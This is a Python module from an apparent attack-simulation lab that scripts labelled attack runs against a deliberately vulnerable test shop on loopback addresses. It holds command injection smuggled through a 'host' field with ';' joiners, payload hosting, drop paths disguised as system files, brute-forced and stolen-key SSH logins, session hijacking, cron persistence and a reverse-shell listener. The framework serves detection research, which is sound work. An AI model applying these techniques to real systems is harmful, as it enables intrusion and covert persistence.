"""What attack chains share: a web shell, a stolen login, a listener, names that look ordinary."""

import random
import shutil
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from foreseen.lab.attacks.runs import Run
from foreseen.lab.channels import Login, Store, knock, request, server_of
from foreseen.lab.layout import POOL, SYSTEM, TEMPORARY
from foreseen.lab.themes import token


@dataclass(slots=True)
class Attack:
    """One run under way: its truth, its randomness, and what must be undone afterwards."""

    run: Run
    rng: random.Random
    undo: list[Callable[[], None]] = field(default_factory=list)

    def pause(self, low: float = 0.5, high: float = 3.0) -> None:
        """Wait as somebody who reads and types."""
        time.sleep(self.rng.uniform(low, high))

    def choose(self, *options: str) -> str:
        """One of several ways to do a thing."""
        return self.rng.choice(options)

    def address(self) -> str:
        """A loopback address for the attacker's side."""
        return (
            f"127.{self.rng.randint(2, 90)}.{self.rng.randint(1, 250)}.{self.rng.randint(2, 250)}"
        )

    def port(self) -> int:
        """A port that nobody uses."""
        return self.rng.choice((443, 4443, 8000, 8081, 9001)) + self.rng.randint(20000, 40000)

    def hidden(self, *, where: tuple[str, ...] = TEMPORARY) -> str:
        """A path for something dropped; it is removed when the run is over."""
        name = self.rng.choice(
            (
                f".{token(self.rng, 6)}",
                f"{token(self.rng, 8)}",
                f".cache-{token(self.rng, 4)}",
                f"systemd-private-{token(self.rng, 6)}",
                f"kworker{self.rng.randint(0, 9)}{token(self.rng, 3)}",
                f"update-{self.rng.randint(100, 9999)}",
            )
        )
        path = f"{self.rng.choice(where)}/{name}"
        self.undo.append(lambda: _remove(Path(path)))
        return path

    def serve(self, text: str | None = None, *, program: str = "agent") -> str:
        """Offer a script or a compiled program for download; gives its address."""
        name = self.rng.choice(("static", "pkg", "dl", "assets"))
        folder = POOL / name
        folder.mkdir(exist_ok=True)
        file = (
            folder / f"{token(self.rng, 7)}{self.rng.choice(('', '.bin', '.dat', '.png', '.sh'))}"
        )
        if text is None:
            shutil.copy(SYSTEM / "src" / program, file)
        else:
            file.write_text(text)
        return f"http://{self.sink()}/{name}/{file.name}"

    def sink(self) -> str:
        """Open a store at an address of the attacker; gives address and port."""
        address, port = self.address(), self.port()
        store = Store(address, port)
        self.undo.append(store.stop)
        return f"{address}:{port}"

    def web(self, command: str, *, wait: bool = True) -> None:
        """Run a command through the hole in the shop's support page."""
        ident = token(self.rng, 12)
        self.run.root("request", ident)
        joiner = self.rng.choice((";", " && ", ";", "; "))
        query = {"host": f"{self.rng.choice(('localhost', '127.0.1.30'))}{joiner}{command}"}
        if wait:
            request("/check", query, ident=ident)
        else:
            threading.Thread(
                target=request, args=("/check", query), kwargs={"ident": ident}, daemon=True
            ).start()

    def task(self, name: str) -> None:
        """Ask the shop for one of the host's tools, as support does."""
        ident = token(self.rng, 12)
        self.run.root("request", ident)
        ticket = str(self.rng.randint(100, 9999))
        request("/task", {"name": name, "ticket": ticket}, ident=ident)

    def guess(self, user: str, times: int) -> None:
        """Fail to log in; what sshd says of it belongs to the run."""
        self.run.step("T1110")
        begin, end = knock(user, times)
        self.run.root("failures", f"{user} {begin:.3f} {end:.3f}", "T1110")

    def login(self, user: str, *, key: Path | None = None) -> Login:
        """Log in as a user whose key was stolen; the whole session is the run's."""
        if not self.run.steps:
            self.run.step("T1078")
        login = Login(user, key=key)
        server, session = login.server
        self.run.root("pid", server)
        self.run.root("session", session)
        return login

    def onward(self) -> None:
        """Own the sessions that ssh clients inside the run's sessions have opened."""
        sessions = {root.value for root in self.run.roots if root.kind == "session"}
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            try:
                name, session = (
                    (entry / "comm").read_text().strip(),
                    (entry / "sessionid").read_text(),
                )
            except OSError:
                continue
            if name == "ssh" and session in sessions:
                server, opened = server_of(int(entry.name))
                self.run.root("pid", server)
                self.run.root("session", opened)

    def plant(self, path: str, technique: str) -> None:
        """Note that cron will start this path later: its sessions belong to the run."""
        self.run.root("cron", path, technique)


def _remove(path: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path, ignore_errors=True)
    else:
        path.unlink(missing_ok=True)


class Listener:
    """Waits for a reverse shell and types into it."""

    def __init__(self, attack: Attack) -> None:
        """Listen on an address of the attacker."""
        self.address, self.port = attack.address(), attack.port()
        self._socket = socket.create_server((self.address, self.port))
        self._socket.settimeout(15)
        attack.undo.append(self._socket.close)

    def accept(self) -> None:
        """Wait for the shell.

        Raises:
            TimeoutError: no shell came.
        """
        self._shell, _ = self._socket.accept()
        self._shell.settimeout(1)

    def type(self, line: str, wait: float = 0.8) -> None:
        """Type a line."""
        self._shell.sendall(f"{line}\n".encode())
        time.sleep(wait)
        try:
            self._shell.recv(65536)
        except TimeoutError:
            return

    def close(self) -> None:
        """Leave."""
        self.type("exit", 0.2)
        self._shell.close()
